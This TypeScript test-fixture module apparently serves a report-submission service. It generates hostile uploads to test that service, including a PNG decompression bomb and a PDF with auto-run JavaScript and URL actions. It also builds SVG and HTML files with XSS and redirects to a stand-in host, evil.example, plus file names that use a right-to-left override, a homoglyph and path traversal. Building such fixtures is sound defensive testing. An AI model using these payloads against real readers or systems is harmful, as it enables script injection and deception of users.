// Files as strangers send them, some of them made to harm, and a report that carries them.
import { createHash, randomBytes } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import {
  type FileSource,
  formatReceiptCode,
  type ListedFile,
  parseReceiptCode,
  prepareReport,
  reporterOf,
  submitReport,
  uploaderOf,
  uploadFiles,
} from '../../../src/client/index.ts'
import { reporters, type SentReport, trustIn } from '../../journeys/people.ts'
import { createHasher } from '../../support/files.ts'
import type { AgencyId, World } from '../../support/world.ts'

export interface Evidence {
  readonly name: string
  readonly type: string
  readonly bytes: Buffer
}

export const sha256Of = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

const sourceOf = ({ name, type, bytes }: Evidence): FileSource => ({
  name,
  type,
  size: bytes.length,
  async *read() {
    yield bytes
  },
})

export const keptOf = ({ name, type, bytes }: Evidence): ListedFile => ({
  name,
  type,
  size: bytes.length,
  sha256: new Uint8Array(createHash('sha256').update(bytes).digest()),
  attached: false,
})

/** Sealed and sent through the SDK, as the form does it. */
export async function reportWith(
  world: World,
  agencies: readonly AgencyId[],
  attached: readonly Evidence[],
  kept: readonly Evidence[] = [],
): Promise<SentReport> {
  const trust = await trustIn(world)
  const service = reporters(world)
  const files = await uploadFiles(uploaderOf(service, trust), attached.map(sourceOf), kept.map(keptOf), {
    createHasher,
  })
  const content = { version: 1, language: 'ko', what: '자료를 첨부합니다.' } as const
  const prepared = await prepareReport(trust, { content, agencies, files })
  await submitReport(service, trust, prepared)
  const code = formatReceiptCode(prepared.code)
  return { prepared, code, reporter: reporterOf(service, trust, parseReceiptCode(code)) }
}

/** Of one colour. */
export function pngOf(width: number, height: number, [r, g, b]: readonly [number, number, number]): Buffer {
  const row = Buffer.concat([Buffer.alloc(1), Buffer.alloc(width * 3, Buffer.from([r, g, b]))])
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([8, 2, 0, 0, 0], 8)
  return pngFrom(size, deflateSync(Buffer.concat(Array.from({ length: height }, () => row))))
}

/** Says that it is of so many pixels, and holds none. */
export function pngBomb(width: number, height: number): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([8, 2, 0, 0, 0], 8)
  return pngFrom(size, deflateSync(Buffer.alloc(1000)))
}

function pngFrom(size: Buffer, data: Buffer): Buffer {
  const chunk = (type: string, body: Buffer) => {
    const named = Buffer.concat([Buffer.from(type, 'latin1'), body])
    const out = Buffer.alloc(named.length + 8)
    out.writeUInt32BE(body.length, 0)
    out.set(named, 4)
    out.writeUInt32BE(crc32(named), named.length + 4)
    return out
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', size), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

/** Runs in a page: a JPEG as a browser writes one, in base64. */
export function jpegInPage(): string {
  const canvas = document.createElement('canvas')
  canvas.width = 64
  canvas.height = 48
  const context = canvas.getContext('2d')
  if (!context) throw new Error('no canvas')
  context.fillStyle = 'rgb(0, 0, 255)'
  context.fillRect(0, 0, 64, 48)
  return canvas.toDataURL('image/jpeg').split(',')[1] ?? ''
}

export const jpegFrom = async (page: Page): Promise<Buffer> =>
  Buffer.from(await page.evaluate(jpegInPage), 'base64')

const CONTENT = `BT /F1 24 Tf 72 700 Td (Evidence, page one) Tj ET
BT /F2 24 Tf 72 640 Td <C548B155> Tj ET
1 0 0 rg 100 500 200 100 re f`

/** Opens addresses and runs scripts wherever a reader lets it; `pages` alike. */
export function hostilePdf(pages: number, content = CONTENT): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => 6 + i)
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("http://evil.example/js"\\)) >> >>',
    `<< /Type /Pages /Count ${pages} /Kids [${kids.map(kid => `${kid} 0 R`).join(' ')}] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /Batang /Encoding /UniKS-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Batang /CIDSystemInfo << /Registry (Adobe) /Ordering (Korea1) /Supplement 1 >> /FontDescriptor << /Type /FontDescriptor /FontName /Batang /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >> >>] >>',
    ...kids.map(
      () =>
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /AA << /O << /S /URI /URI (http://evil.example/open) >> >> /Resources << /Font << /F1 4 0 R /F2 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] /A << /S /URI /URI (http://evil.example/link) >> >>] >>',
    ),
  ])
}

/** A password opens it. */
export function lockedPdf(): Buffer {
  const secret = (byte: string) => `<${byte.repeat(32)}>`
  const more = `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${secret('0a')} /U ${secret('0b')} /P -4 >> /ID [${secret('01')} ${secret('01')}]`
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>'], more)
}

/** Of numbered objects; the first is its catalog. */
function pdfOf(objects: readonly string[], more = ''): Buffer {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, i) => {
    const at = text.length
    text += `${i + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const start = text.length
  const table = places.map(at => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`
  const trailer = `trailer << /Size ${objects.length + 1} /Root 1 0 R ${more} >>`
  text += `${trailer}\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const HOSTILE_TEXT = `첫 줄: 도면\u202egnp.exe 그리고 Sаmsun
<script>alert(1)</script><img src=http://evil.example/a.png onerror=alert(1)>
javascript:alert(1)\u0007\u200b
${'긴 줄 '.repeat(1000)}
`

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch('http://evil.example/svg')</script>
<image href="http://evil.example/b.png"/><rect width="9" height="9"/></svg>`

const HTML = `<!doctype html><meta http-equiv="refresh" content="0;url=http://evil.example/"><script>parent.location='http://evil.example/'</script><body onload=alert(1)>`

export const RED = [255, 0, 0] as const

/** One of each, names and types as somebody would give them who means harm. */
export const hostileFiles = (jpeg: Buffer): readonly Evidence[] => [
  { name: '도면 1차.png', type: 'image/png', bytes: pngOf(40, 30, RED) },
  { name: 'photo\u202egpj.exe', type: 'application/x-msdownload', bytes: jpeg },
  { name: 'Sаmsun 메모.txt', type: 'text/plain', bytes: Buffer.from(HOSTILE_TEXT) },
  { name: 'plan.svg', type: 'image/svg+xml', bytes: Buffer.from(SVG) },
  { name: '<script>alert(1)</script>.html', type: 'text/html', bytes: Buffer.from(HTML) },
  { name: 'contract.pdf', type: 'application/pdf', bytes: hostilePdf(22) },
  {
    name: '../../archive.zip',
    type: '<b>zip</b>',
    bytes: Buffer.concat([Buffer.from('PK\x03\x04\0'), randomBytes(1_500_000)]),
  },
  { name: 'bomb.png', type: 'image/png', bytes: pngBomb(60_000, 60_000) },
  { name: 'not-a-picture.png', type: 'image/png', bytes: pngOf(8, 8, RED).subarray(0, 40) },
  { name: '옛글.txt', type: '', bytes: Buffer.from([0xb0, 0xa1, 0xb3, 0xaa, 0xb4, 0xd9]) },
]

export const KEPT: Evidence = {
  name: '원본 도면.dwg',
  type: 'image/vnd.dwg',
  bytes: Buffer.from('The original, that stays with the reporter.'),
}
